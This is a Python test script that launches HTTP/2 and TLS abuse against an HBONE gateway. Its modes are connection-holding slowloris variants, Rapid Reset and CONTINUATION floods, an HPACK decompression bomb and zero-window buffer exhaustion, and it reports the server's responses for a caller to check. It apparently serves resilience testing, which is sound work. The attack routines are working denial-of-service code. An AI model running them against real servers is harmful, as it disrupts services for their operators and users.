#!/usr/bin/python3
"""HTTP/2 and TLS abuse against an HBONE terminator (python-h2 + Python's ssl, not our code).

  abuse.py ADDR PORT --cert C --key K --bundle B MODE [options]
  modes:
    silent        --n TCP connections to the port that send nothing, held --hold seconds
    partial       --n TCP connections that send the first bytes of a ClientHello, then stall
    rapid_reset   HEADERS + RST_STREAM pairs (batches of 50 per write) until --n pairs were
                  sent or --seconds passed, reconnecting after each GOAWAY
    continuation  HEADERS without END_HEADERS, then --n CONTINUATION frames (~50 bytes each)
    hpack_bomb    one 3.9 KiB header put in the HPACK table, then header blocks naming it
                  (1 byte each) --n times: first a list just over 64 KiB, then the flood
    zero_window   --conns connections with SETTINGS_INITIAL_WINDOW_SIZE 0, --streams CONNECT
                  streams each to an echo, each uploading --bytes; held --hold seconds
    big_authority CONNECT with a 64 KiB :authority
    method        GET (with :scheme and :path) instead of CONNECT
    no_authority  CONNECT without :authority
Prints one line of JSON with what the server answered (statuses, RST_STREAM and GOAWAY codes,
counts); exit 0 when the run went as planned (the caller checks the answers), 1 otherwise.
Everything is bounded by --seconds / --hold and socket timeouts.
"""
import argparse
import json
import os
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h2client import Client, client_args  # noqa: E402

CONTINUATION, HEADERS = 0x9, 0x1
END_STREAM, END_HEADERS = 0x1, 0x4


def out(**kw):
    print(json.dumps(kw), flush=True)


def frame(ftype, flags, sid, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def tls_ctx(a):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.check_hostname = False
    ctx.load_verify_locations(a.bundle)
    ctx.load_cert_chain(a.cert, a.key)
    ctx.set_alpn_protocols(["h2"])
    return ctx


def client(a, settings=None):
    c = Client(a)
    if settings:
        c.h2.update_settings(settings)
        c.flush()
    return c


def answers(c, wait_s, want=lambda r: False):
    """Reads events for up to wait_s seconds: statuses, resets and GOAWAY by stream."""
    r = {"status": {}, "reset": {}, "goaway": None, "closed": False}
    end = time.monotonic() + wait_s
    while time.monotonic() < end and r["goaway"] is None and not r["closed"] and not want(r):
        try:
            evs = c.events(0.1)
        except (ssl.SSLError, OSError):
            r["closed"] = True
            break
        except h2.exceptions.ProtocolError:
            r["closed"] = True
            break
        for ev in evs:
            if ev is None:
                r["closed"] = True
            elif isinstance(ev, h2.events.ResponseReceived):
                r["status"][ev.stream_id] = int(dict(ev.headers)[":status"])
            elif isinstance(ev, h2.events.StreamReset):
                r["reset"][ev.stream_id] = int(ev.error_code)
            elif isinstance(ev, h2.events.ConnectionTerminated):
                r["goaway"] = int(ev.error_code)
    return r


def raw_events(c, wait_s, want=lambda r: False):
    """Like answers() but also survives frames python-h2 would refuse to parse."""
    try:
        return answers(c, wait_s, want)
    except h2.exceptions.ProtocolError as e:
        return {"status": {}, "reset": {}, "goaway": None, "closed": True, "error": str(e)}


# ---- TCP / TLS stage ------------------------------------------------------------------------

def hold_sockets(a, first_bytes):
    socks, refused, connected = [], 0, 0
    for _ in range(a.n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if a.source:
            s.bind((a.source, 0))
        s.setblocking(False)
        s.connect_ex((a.addr, a.port))
        socks.append(s)
    # poll(), not select(): thousands of descriptors.
    by_fd = {s.fileno(): s for s in socks}
    pending = set(by_fd)
    p = select.poll()
    for fd in pending:
        p.register(fd, select.POLLOUT)
    deadline = time.monotonic() + 20
    while pending and time.monotonic() < deadline:
        for fd, _ in p.poll(500):
            if fd not in pending:
                continue
            pending.discard(fd)
            p.unregister(fd)
            s = by_fd[fd]
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                connected += 1
                if first_bytes:
                    try:
                        s.send(first_bytes)
                    except OSError:
                        pass
            else:
                refused += 1
    # Held: a connection the server resets or closes is replaced at once (at most 500 a
    # second), as an attacker keeping the listener full would; both are counted.
    live = set(by_fd) - pending
    for fd in live:
        p.register(fd, select.POLLIN)
    t_announce = time.monotonic() + 2  # the gateway has taken them all by then
    t_end = time.monotonic() + a.hold
    closed_by_server, replaced, budget, t_budget = 0, 0, 0, time.monotonic()
    announced = False
    while time.monotonic() < t_end:
        if not announced and time.monotonic() >= t_announce:
            print(json.dumps({"phase": "holding", "connected": connected}), flush=True)
            announced = True
        if time.monotonic() - t_budget >= 1:
            budget, t_budget = 0, time.monotonic()
        for fd, _ in p.poll(100):
            if fd not in live:
                continue
            try:
                data = by_fd[fd].recv(4096)
            except OSError:
                data = b""
            if data:
                continue
            closed_by_server += 1
            live.discard(fd)
            p.unregister(fd)
            by_fd.pop(fd).close()
            if budget >= 500:
                continue
            budget += 1
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            if a.source:
                s.bind((a.source, 0))
            s.setblocking(False)
            s.connect_ex((a.addr, a.port))
            by_fd[s.fileno()] = s
            live.add(s.fileno())
            p.register(s.fileno(), select.POLLIN)
            replaced += 1
    socks = list(by_fd.values())
    out(ok=True, opened=a.n, connected=connected, refused=refused, unanswered=len(pending),
        closed_by_server=closed_by_server, replaced=replaced, held_to_the_end=len(live))
    return True


def client_hello_prefix():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, outg)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outg.read()[:100]  # a record header and part of the hello: never complete


# ---- HTTP/2 stage ---------------------------------------------------------------------------

def run_rapid_reset(a):
    pairs, conns, goaways, t_end = 0, 0, {}, time.monotonic() + a.seconds
    per_conn = []
    while pairs < a.n and time.monotonic() < t_end:
        c = client(a)
        conns += 1
        sent_here, goaway = 0, None
        while goaway is None and pairs < a.n and time.monotonic() < t_end:
            try:
                for _ in range(50):
                    sid = c.connect(a.authority)  # flushes the HEADERS into the buffer below
                    c.h2.reset_stream(sid, 8)      # CANCEL
                    sent_here += 1
                    pairs += 1
                c.flush()
            except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
                break
            r = raw_events(c, 0.01)
            goaway = r["goaway"]
            if r["closed"] and goaway is None:
                break
        if goaway is None:
            goaway = raw_events(c, 2)["goaway"]
        goaways[str(goaway)] = goaways.get(str(goaway), 0) + 1
        per_conn.append(sent_here)
        c.sock.close()
    out(ok=True, pairs=pairs, connections=conns, goaway_codes=goaways,
        max_pairs_per_connection=max(per_conn))
    return True


def run_continuation(a):
    c = client(a)
    enc = hpack.Encoder()
    block = enc.encode([(":method", "CONNECT"), (":authority", a.authority)])
    sid = c.h2.get_next_available_stream_id()
    data = frame(HEADERS, 0, sid, block)
    for i in range(a.n):  # small: all of it in one TCP segment, read before the server closes
        data += frame(CONTINUATION, 0, sid, enc.encode([(f"x-c{i}", "v" * 40)]))
    try:
        c.sock.sendall(data)  # one write: all of it is in before the server answers
    except (OSError, ssl.SSLError):
        pass
    r = raw_events(c, 5)
    out(ok=True, continuations=a.n, **r)
    return True


class RawFrames:
    """The server's frames read without python-h2 (whose state machine knows nothing of the
    streams we opened with raw frames): :status by stream, RST_STREAM and GOAWAY codes."""

    def __init__(self, sock):
        self.sock, self.buf, self.dec = sock, b"", hpack.Decoder()
        self.dec.max_allowed_table_size = 65536
        self.r = {"status": {}, "reset": {}, "goaway": None, "closed": False}

    def read(self, wait_s, want=lambda r: False):
        end = time.monotonic() + wait_s
        while time.monotonic() < end and self.r["goaway"] is None and not self.r["closed"]:
            if want(self.r):
                break
            if not self.sock.pending():
                rd, _, _ = select.select([self.sock], [], [], 0.05)
                if not rd:
                    continue
            try:
                data = self.sock.recv(65536)
            except (OSError, ssl.SSLError):
                data = b""
            if not data:
                self.r["closed"] = True
                break
            self.buf += data
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + n:
                    break
                ftype, sid, body = self.buf[3], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF, self.buf[9:9 + n]
                self.buf = self.buf[9 + n:]
                if ftype == HEADERS:
                    for k, v in self.dec.decode(body):
                        if k in (":status", b":status"):
                            self.r["status"][sid] = int(v)
                elif ftype == 0x3:
                    self.r["reset"][sid] = int.from_bytes(body[:4], "big")
                elif ftype == 0x7:
                    self.r["goaway"] = int.from_bytes(body[4:8], "big")
        return self.r


def run_hpack_bomb(a):
    c = client(a)
    # The server's SETTINGS and the ACK of ours arrive through python-h2 first.
    raw_events(c, 0.5)
    rf = RawFrames(c.sock)
    # The first request puts a 3.9 KiB header into the decoder's table (and is answered).
    enc = hpack.Encoder()
    block = enc.encode([(":method", "CONNECT"), (":authority", a.authority), ("x-bomb", "b" * 3900)])
    c.sock.sendall(frame(HEADERS, END_HEADERS, 1, block))
    first = dict(rf.read(5, want=lambda r: 1 in r["status"] or 1 in r["reset"]))
    first = {"status": dict(first["status"])}
    # Dynamic table now (newest first): 62 x-bomb, 63 :authority, 64 :method.
    head = bytes([0x80 | 64, 0x80 | 63])
    # Stage 1: 17 references, 17 x 3.9 KiB decoded: a header list just over 64 KiB.
    c.sock.sendall(frame(HEADERS, END_HEADERS, 3, head + bytes([0x80 | 62]) * 17))
    over_list = dict(rf.read(5, want=lambda r: 3 in r["status"] or 3 in r["reset"]))
    # Stage 2: 16 KiB blocks of references, each decoding to ~64 MB, on new streams.
    flood = head + bytes([0x80 | 62]) * 16000
    sent, sid, res = 0, 5, {"goaway": None, "closed": False}
    t_end = time.monotonic() + a.seconds
    while sent < a.n and time.monotonic() < t_end:
        try:
            c.sock.sendall(frame(HEADERS, END_HEADERS | END_STREAM, sid, flood))
        except OSError:
            break
        sent += 1
        sid += 2
        res = rf.read(0.05)
        if res["goaway"] is not None or res["closed"]:
            break
    if res["goaway"] is None and not res["closed"]:
        res = rf.read(3)
    out(ok=True, first_status=first["status"].get(1), list_over_64k=over_list["status"].get(3),
        flood_blocks=sent, decoded_bytes_per_block=16000 * 3938, goaway=res["goaway"],
        closed=res["closed"])
    return True


def run_zero_window(a):
    conns = []
    for _ in range(a.conns):
        c = client(a, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        sids = [c.connect(a.authority) for _ in range(a.streams)]
        conns.append({"c": c, "left": {sid: a.bytes for sid in sids}, "ok": set()})
    chunk = b"z" * 16384
    uploaded, t_end, last_progress = 0, time.monotonic() + a.seconds, time.monotonic()
    while time.monotonic() < t_end and time.monotonic() - last_progress < 3:
        progress = False
        for k in conns:
            c = k["c"]
            for ev in c.events(0.01):
                if isinstance(ev, h2.events.ResponseReceived):
                    k["ok"].add(ev.stream_id)
            for sid in list(k["left"]):
                if sid not in k["ok"] or k["left"][sid] == 0:
                    continue
                n = min(k["left"][sid], c.h2.local_flow_control_window(sid),
                        c.h2.max_outbound_frame_size, len(chunk))
                if n <= 0:
                    continue
                c.h2.send_data(sid, chunk[:n])
                k["left"][sid] -= n
                uploaded += n
                progress = True
            c.flush()
        if progress:
            last_progress = time.monotonic()
        if all(v == 0 for k in conns for v in k["left"].values()):
            break
    opened = sum(len(k["ok"]) for k in conns)
    # Hold: the gateway keeps whatever it buffered for us (we never open our windows).
    print(json.dumps({"phase": "holding", "uploaded": uploaded, "streams_open": opened}), flush=True)
    time.sleep(a.hold)
    for k in conns:
        k["c"].sock.close()
    out(ok=True, connections=a.conns, streams=a.conns * a.streams, streams_open=opened,
        uploaded=uploaded)
    return True


def run_single(a, headers, validate_ok=True):
    """One request per iteration, --n times on one connection: the answers, counted."""
    c = client(a)
    statuses, resets, goaway = {}, {}, None
    for _ in range(a.n):
        sid = c.h2.get_next_available_stream_id()
        c.h2.send_headers(sid, headers, end_stream=False)
        c.flush()
        r = raw_events(c, 5, want=lambda r, sid=sid: sid in r["status"] or sid in r["reset"])
        if sid in r["status"]:
            statuses[r["status"][sid]] = statuses.get(r["status"][sid], 0) + 1
        if sid in r["reset"]:
            resets[r["reset"][sid]] = resets.get(r["reset"][sid], 0) + 1
        if r["goaway"] is not None or r["closed"]:
            goaway = r["goaway"]
            break
    out(ok=True, requests=a.n, statuses={str(k): v for k, v in statuses.items()},
        resets={str(k): v for k, v in resets.items()}, goaway=goaway)
    return True


def main():
    p = argparse.ArgumentParser()
    client_args(p)
    p.add_argument("mode", choices=["silent", "partial", "rapid_reset", "continuation", "hpack_bomb",
                                    "zero_window", "big_authority", "method", "no_authority"])
    p.add_argument("--authority", default="198.51.100.11:7000")
    p.add_argument("--n", type=int, default=1)
    p.add_argument("--conns", type=int, default=1)
    p.add_argument("--streams", type=int, default=1)
    p.add_argument("--bytes", type=int, default=1 << 20)
    p.add_argument("--hold", type=float, default=3)
    p.add_argument("--seconds", type=float, default=10)
    a = p.parse_args()
    if a.mode == "silent":
        ok = hold_sockets(a, b"")
    elif a.mode == "partial":
        ok = hold_sockets(a, client_hello_prefix())
    elif a.mode == "rapid_reset":
        ok = run_rapid_reset(a)
    elif a.mode == "continuation":
        ok = run_continuation(a)
    elif a.mode == "hpack_bomb":
        ok = run_hpack_bomb(a)
    elif a.mode == "zero_window":
        ok = run_zero_window(a)
    elif a.mode == "big_authority":
        ok = run_single(a, [(":method", "CONNECT"), (":authority", "a" * 65536 + ":80")])
    elif a.mode == "method":
        ok = run_single(a, [(":method", "GET"), (":authority", a.authority), (":scheme", "https"),
                            (":path", "/")])
    else:
        ok = run_single(a, [(":method", "CONNECT")])
    sys.exit(0 if ok else 1)


if __name__ == "__main__":
    main()
